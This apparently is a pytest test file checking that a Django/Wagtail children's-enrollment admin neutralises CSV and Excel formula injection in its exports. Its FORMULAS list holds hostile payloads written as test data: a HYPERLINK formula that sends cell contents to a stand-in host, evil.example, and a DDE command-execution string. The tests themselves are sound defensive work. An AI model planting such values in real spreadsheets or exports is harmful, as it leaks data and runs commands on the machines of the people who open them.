"""Exports carry no formula (CSV/formula injection): a name typed as ``=HYPERLINK(…)`` comes
out as text in the children's CSV and Excel exports and in the attendance workbook, and every
list with an export in the admin goes through ``cms.exports``."""

import csv
import io

from django.urls import reverse

from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.admin.viewsets.model import ModelViewSet

import pytest
from openpyxl import load_workbook

from cms.exports import safe_cell
from tests.enrollment.attendance_support import at, book, summer_class
from tests.makers import make_child, make_guardian, signed_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=2+2",
    "\r=3+3",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert safe_cell(value) == "'" + value, f"{value!r} left as a formula"


@pytest.mark.parametrize("value", ["王小明", "+8613800138000", "-3", 12, None, "a=b"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def _live_formulas(values) -> list:
    return [
        value
        for value in values
        if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def test_the_children_exports_carry_no_formula(client, coordinator_a, county_a):
    for n, name in enumerate(FORMULAS):
        make_child(county_obj=county_a, name=name, township=FORMULAS[-1 - n])
    signed_in(client, coordinator_a)

    response = client.get("/admin/people/children/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert len(cells) > len(FORMULAS), "the CSV export lists no children"
    assert not _live_formulas(cells), f"live formulas in the CSV: {_live_formulas(cells)}"

    response = client.get("/admin/people/children/", {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [c for row in workbook.active.iter_rows(values_only=True) for c in row]
    assert not _live_formulas(cells), f"live formulas in the workbook: {_live_formulas(cells)}"


def test_the_attendance_workbook_carries_no_formula(client, coordinator_a, county_a):
    session = summer_class(at(3), county_a, capacity=20).sessions.get()
    for name in FORMULAS:
        guardian = make_guardian(name=name)
        book(session, guardian, child=make_child(guardian=guardian, county_obj=county_a, name=name))

    response = signed_in(client, coordinator_a).get(
        reverse("people_sessions:export", args=[session.pk])
    )

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for row in workbook.active.iter_rows(values_only=True) for c in row]
    quoted = [c for c in cells if isinstance(c, str) and c.startswith("'")]
    assert len(quoted) == len(FORMULAS), f"the bookers' names are not all quoted: {cells}"
    assert not _live_formulas(cells), f"live formulas in the workbook: {_live_formulas(cells)}"


def _exports(viewset) -> list:
    """What the viewset's list exports (declared on the viewset or on its index view)."""
    if viewset.list_export is ViewSet.UNDEFINED:
        return viewset.index_view_class.list_export
    return viewset.list_export


def test_every_admin_list_with_an_export_neutralises_formulas(db):
    viewsets.populate()
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(viewset, ModelViewSet) and _exports(viewset)
    ]
    assert exporting, "no admin list with an export found: is the walk broken?"
    for viewset in exporting:
        view = viewset.index_view_class()
        value = view.preprocess_field_value("name", "=1+1", "csv")
        assert value == "'=1+1", (
            f"{viewset.name}'s export writes formulas: its index view needs "
            "cms.exports.SafeSpreadsheetExportMixin"
        )
